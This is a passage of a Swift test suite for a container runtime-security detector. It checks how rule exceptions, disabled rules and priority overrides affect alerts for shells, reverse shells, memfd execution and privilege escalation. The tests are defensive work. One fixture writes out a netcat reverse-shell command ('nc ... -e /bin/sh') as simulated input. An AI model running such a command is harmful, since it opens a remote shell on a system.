                "another rule's exception",
                Scenario.configuration(.reverseShell) { $0.exceptWorkloads = ["image:nginx*"] }
            ),
        ]
        for (label, configuration) in notSilenced {
            #expect(
                Scenario.alerts(shell, ancestors: parent, configuration: configuration).of(.shellInContainer).count
                    == 1, "\(label)")
        }
    }

    @Test("an exception or a disabled rule silences that rule only")
    func exceptionIsPerRule() {
        // nc -e: reverse_shell and network_tool_in_container.
        let nc = Scenario.busybox(["nc", "10.0.0.1", "4444", "-e", "/bin/sh"])
        #expect(Scenario.alerts(nc).rules == [.reverseShell, .networkToolInContainer])
        let disabled = Scenario.configuration(.networkToolInContainer) { $0.enabled = false }
        #expect(Scenario.alerts(nc, configuration: disabled).rules == [.reverseShell])
    }

    @Test("a priority override replaces the rule's priority, interactive or not")
    func priorityOverride() {
        let configuration = Scenario.configuration(.shellInContainer) { $0.priority = .critical }
        let scripted = Scenario.busybox(["sh", "-c", "x"])
        let interactive = Scenario.busybox(["sh"], tty: 34816, stdio: ["/dev/pts/0", "/dev/pts/0", "/dev/pts/0"])
        #expect(Scenario.alerts(scripted, configuration: configuration).first?.priority == .critical)
        #expect(Scenario.alerts(interactive, configuration: configuration).first?.priority == .critical)
        let memfd = Scenario.process(comm: "x", exe: "/memfd:x", deleted: true, argv: ["x"])
        let lowered = Scenario.configuration(.execFromVolatilePath) { $0.priority = .notice }
        #expect(Scenario.alerts(memfd, configuration: lowered).of(.execFromVolatilePath).first?.priority == .notice)
    }

    @Test("one exec can raise several rules at once: a setuid copy of busybox in /tmp added after start")
    func severalRules() {
        let process = Scenario.process(
            comm: "ping", exe: "/tmp/ping", argv: ["/tmp/ping", "-c", "3", "127.0.0.1"], uid: 1000, euid: 0)
        let alerts = Scenario.alerts(process, facts: Scenario.facts(upper: ["/tmp/ping"]))
        #expect(alerts.rules == [.privilegeEscalation, .execFromVolatilePath, .containerDrift])
    }
}
